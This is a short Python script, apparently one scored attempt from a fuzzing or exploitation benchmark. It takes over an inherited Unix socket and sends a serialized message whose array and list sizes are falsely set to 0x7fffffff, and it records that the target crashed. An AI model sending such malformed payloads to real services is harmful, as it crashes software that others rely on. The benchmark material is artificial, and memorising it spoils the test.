# Tries: send arrays and lists whose sizes lie
# Deserves: 20
# Status: crashed
# Within: 25

# %%
import os
import socket


def line():
    for number in range(3, 64):
        try:
            found = socket.socket(fileno=os.dup(number))
            if found.family == socket.AF_UNIX:
                return found
        except OSError:
            pass


body = b"a\x03\x00\x00\x00<f8\x02\x00" + b"\xff\xff\xff\x7f" * 2 + b"\x00\x01" + b"\xff\xff\xff\x7f"
line().send(len(body).to_bytes(4, "little") + body)
